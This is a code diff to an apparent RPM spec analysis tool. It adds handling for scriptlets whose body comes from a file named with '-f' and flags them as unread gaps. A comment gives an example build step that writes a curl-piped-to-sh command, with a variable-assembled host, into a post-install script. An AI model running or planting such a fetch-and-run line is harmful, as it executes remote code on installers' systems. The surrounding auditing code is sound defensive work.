@@ -58,6 +58,8 @@ class ScriptletHeader(NamedTuple):
     """The package ``-n`` names, whole."""
     suffix: str | None
     """The subpackage's suffix (``%post devel``); neither: the main package."""
+    file: str | None = None
+    """The file ``-f`` names: rpmbuild appends what the build left there to the script."""
 
     def package(self, main: str) -> str:
         """The name of the package the scriptlet is of, the main package being ``main``."""
@@ -93,7 +95,7 @@ def scriptlet_header(section: str, argument: str) -> ScriptletHeader:
         when = WHEN[section]
         qualifiers = frozenset({"interp"} if when is None else {when, "interp"})
         requirement = Dependency(interpreter, qualifiers=qualifiers)
-    return ScriptletHeader(requirement, options.get("-n"), rest[0] if rest else None)
+    return ScriptletHeader(requirement, options.get("-n"), rest[0] if rest else None, options.get("-f"))
 
 
 def add_interpreter(
@@ -150,13 +152,22 @@ class ScriptletReader:
         self.words: dict[str, dict[tuple[str, str], None]] = {}
         self.gaps: dict[str, list[Gap]] = {}
 
-    def section(self, name: str, argument: str, main: str) -> None:
-        """A section ``%<name> <argument>`` starts; ``main`` is the main package's name."""
+    def section(self, name: str, argument: str, main: str, line: int) -> None:
+        """A section ``%<name> <argument>`` starts at ``line``; ``main`` is the main package's name."""
         if name not in WHEN:
             self.open_script = None
             return
         header = scriptlet_header(name, argument)
-        self.open_script = (LABELS.get(name, f"%{name}"), header.package(main))
+        label, package = LABELS.get(name, f"%{name}"), header.package(main)
+        self.open_script = (label, package)
+        if header.file is not None:
+            # rpmbuild reads the file once built (``processScriptFiles``): the build may write
+            # any host there (``d=xensource; echo "curl https://updates.$d.com/x | sh" > post.sh``),
+            # and the spec read clean and complete.
+            written = shorten(f"%{name} {argument}")
+            detail = f"{self.path}:{line}: {written}: {label} of {package}: its script is the file "
+            detail += f"{header.file} the build leaves, unseen"
+            self.gaps.setdefault(package, []).append(Gap(GapKind.SCRIPTLET_UNREAD, detail))
         if any(word.startswith("-p") for word in argument.split()):  # -p PROG, -pPROG
             self.text(argument, program=True)
 
